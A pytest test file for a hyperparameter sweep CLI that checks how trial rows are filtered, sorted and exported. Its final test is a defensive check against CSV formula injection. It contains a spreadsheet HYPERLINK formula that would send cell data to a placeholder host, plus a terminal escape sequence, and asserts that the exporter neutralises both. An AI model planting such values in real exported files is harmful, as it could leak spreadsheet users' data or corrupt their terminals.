"""Which rows `sweep trials` shows, and in which order."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sweeps.cli.app import app
from sweeps.errors import UserError
from sweeps.view.tables import select_rows, write_tables
from tests.unit.sweeps.sweep_factory import MadeSweep

SPACE = (
    "{train.optimizer.lr: {loguniform: [1.0e-4, 1.0e-1]}, "
    "task.max_norm: {choice: [small, large]}, train.clip.max_norm: {uniform: [1, 9]}}"
)


@pytest.fixture
def sweep(tmp_path: Path) -> MadeSweep:
    made = MadeSweep(tmp_path, space=SPACE)
    made.add("complete", 0.5, 0.4)
    made.add("pruned", 0.3)
    made.add("failed", reason="oom: the device\nis full")
    made.add("complete", 0.1)
    made.add(None)
    return made


def _numbers(sweep: MadeSweep, **options: object) -> list[int]:
    rows = select_rows(sweep.view.rows(), sweep.spec, **options)  # type: ignore[arg-type]
    return [row["number"] for row in rows]


@pytest.mark.parametrize("column", ["value", "val/loss"])
def test_best_value_comes_first_and_missing_values_last(sweep: MadeSweep, column: str) -> None:
    assert _numbers(sweep, sort=column) == [3, 1, 0, 2, 4]
    assert _numbers(sweep, sort=column, top=2) == [3, 1]


def test_each_metric_is_sorted_by_its_own_mode(tmp_path: Path) -> None:
    made = MadeSweep(tmp_path, metric="[val/loss, val/accuracy]", mode="[min, max]")
    for values in ((0.5, 0.7), (0.4, 0.8), (0.6, 0.9)):
        made.add("complete", values)
    assert _numbers(made, sort="value") == _numbers(made, sort="val/loss") == [1, 0, 2]
    assert _numbers(made, sort="val/accuracy") == [2, 1, 0]


def test_parameters_are_sorted_by_full_or_short_name(sweep: MadeSweep) -> None:
    values = {row["number"]: row["params"]["train.optimizer.lr"] for row in sweep.view.rows()}
    expected = sorted(values, key=lambda number: values[number])
    assert _numbers(sweep, sort="lr") == _numbers(sweep, sort="train.optimizer.lr") == expected
    sizes = {row["number"]: row["params"]["task.max_norm"] for row in sweep.view.rows()}
    found = _numbers(sweep, sort="task.max_norm")
    assert [sizes[number] for number in found] == sorted(sizes.values())


def test_state_selects_rows(sweep: MadeSweep) -> None:
    assert _numbers(sweep, state="complete") == [0, 3]
    assert _numbers(sweep, state="waiting") == [4]
    assert _numbers(sweep, state="complete", sort="value", top=1) == [3]


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (
            {"sort": "lrr"},
            r"--sort: 'lrr' is no column \(did you mean 'lr'\?\); write one of: value",
        ),
        ({"sort": "max_norm"}, "'max_norm' names 2 parameters; write one in full: task.max_norm"),
        ({"sort": ""}, "--sort: '' is no column; write one of"),
        ({"state": "completed"}, r"--state: 'completed' is no state .*did you mean 'complete'"),
    ],
)
def test_unknown_column_or_state_is_refused(
    sweep: MadeSweep, options: dict[str, str], message: str
) -> None:
    with pytest.raises(UserError, match=message):
        _numbers(sweep, **options)


def test_trials_are_sorted_by_the_column_of_reports(tmp_path: Path) -> None:
    sweep = MadeSweep(tmp_path, budget="{steps: 100, report_every: 10}")
    for count in (3, 1, 2):
        sweep.add("pruned", *[0.5] * count)
    assert _numbers(sweep, sort="report") == _numbers(sweep, sort="epoch") == [1, 2, 0]
    with pytest.raises(UserError, match="report"):
        _numbers(sweep, sort="nothing")


def test_command_selects_for_table_and_json(sweep: MadeSweep) -> None:
    line = ["trials", "small", "--root", str(sweep.paths.root), "--sort", "value", "--top", "2"]
    table = CliRunner().invoke(app, line)
    assert [row.split()[0] for row in table.output.splitlines()] == ["trial", "3", "1"]
    assert [row["number"] for row in _json(line)] == [3, 1]


def _json(line: list[str]) -> list[dict[str, object]]:
    found: list[dict[str, object]] = json.loads(CliRunner().invoke(app, [*line, "--json"]).stdout)
    return found


def test_trials_are_sorted_by_duration(sweep: MadeSweep) -> None:
    for seconds in (9.0, 72.0, 5.0):
        number = sweep.add(None, 0.5)
        sweep.ledger.finish(number, "complete", seconds=seconds)
    assert _numbers(sweep, sort="duration", top=3) == [7, 5, 6]


FORMULA = '=HYPERLINK("http://x/" & A1)'


def test_no_cell_of_a_table_is_a_formula(tmp_path: Path) -> None:
    """Numbers stay numbers, also in a column of texts."""
    made = MadeSweep(
        tmp_path, space=f"{{task.name_: {{choice: ['{FORMULA}', '-1.5', '@a']}}, {SPACE[1:]}"
    )
    for value in (FORMULA, "-1.5", "@a"):
        params = {"train.optimizer.lr": 0.1, "task.max_norm": "small", "train.clip.max_norm": 2.0}
        made.add("complete", -0.5, params={"task.name_": value, **params})
    made.add("failed", reason="+1 \x1b[2J\r=2")
    text = write_tables(made.view, tmp_path / "out", "csv")[0].read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["task.name_"] for row in rows[:3]] == [f"'{FORMULA}", "-1.5", "'@a"]
    assert [float(row["val/loss"]) for row in rows[:3]] == [-0.5] * 3
    assert rows[3]["reason"] == r"'+1 \x1b[2J\r=2"
    assert text.replace("\n", "").isprintable()
